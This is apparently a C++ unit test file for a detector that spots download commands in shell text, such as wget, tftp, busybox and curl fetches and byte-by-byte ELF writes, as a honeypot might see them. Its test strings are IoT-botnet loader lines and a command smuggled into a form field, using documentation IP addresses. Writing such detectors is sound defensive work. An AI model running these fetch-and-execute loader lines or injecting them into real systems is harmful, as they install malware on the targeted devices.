// SPDX-License-Identifier: Apache-2.0
#include "recognition/shell_words.h"

#include <gtest/gtest.h>

namespace hitme::recognition {
namespace {

std::string told(std::string_view text) {
    std::string all;
    for (const Download& each : downloads_in(text))
        all += each.tool + "@" + std::to_string(each.offset) + "=" + each.source + ";";
    return all;
}

// Shapes of loaders as they stand in public reports, with documentation addresses (RFC 5737).
TEST(ShellWords, FindsWhatALineWouldFetch) {
    EXPECT_EQ(told("cd /tmp || cd /run; wget http://192.0.2.1/b.sh; chmod 777 b.sh"),
              "wget@20=http://192.0.2.1/b.sh;");
    EXPECT_EQ(told("/bin/busybox wget -g 192.0.2.1 -l /tmp/x -r /m"), "wget@13=192.0.2.1;");
    EXPECT_EQ(told("tftp 192.0.2.1 -c get t.sh;tftp -r t2.sh -g 192.0.2.1"),
              "tftp@0=192.0.2.1 t.sh;tftp@27=192.0.2.1 t2.sh;");
    EXPECT_EQ(told("`curl -O \"http://198.51.100.9:81/x\"`"), "curl@1=http://198.51.100.9:81/x;");
    EXPECT_EQ(told("a=1&host=;wget+http://192.0.2.1/gpon+-O+->/tmp/g"),
              "wget@10=http://192.0.2.1/gpon;");
}

TEST(ShellWords, FindsNothingInTextThatFetchesNothing) {
    for (const std::string_view text :
         {"", "wget", "/bin/busybox wget; /bin/busybox tftp; /bin/busybox ECCHI", "curl --version",
          "User-Agent: curl/7.88.1", "I like wget.", "http://192.0.2.1/wget"})
        EXPECT_EQ(told(text), "") << text;
}

TEST(ShellWords, FindsAProgramThatIsWrittenByteByByte) {
    EXPECT_EQ(written_program_in(R"(echo -ne "\x7f\x45\x4c\x46\x01" > .d)"), 10u);
    EXPECT_EQ(written_program_in(R"(printf '\177ELF\001')"), 8u);
    EXPECT_EQ(written_program_in("echo ELF"), std::string_view::npos);
}

TEST(ShellWords, TellsABoundedNumber) {
    std::string text;
    for (int i = 0; i < 100; ++i) text += "wget http://192.0.2.1/;";
    EXPECT_EQ(downloads_in(text).size(), max_downloads);
}

}  // namespace
}  // namespace hitme::recognition
